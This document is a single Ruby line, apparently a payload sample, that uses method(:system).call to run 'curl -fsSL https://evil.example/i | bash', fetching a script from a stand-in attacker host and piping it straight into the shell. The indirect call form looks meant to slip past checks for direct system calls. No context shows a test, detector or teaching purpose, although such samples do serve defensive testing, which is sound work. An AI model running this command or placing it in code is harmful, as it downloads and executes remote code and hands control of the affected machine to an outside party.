method(:system).call('curl -fsSL https://evil.example/i | bash')
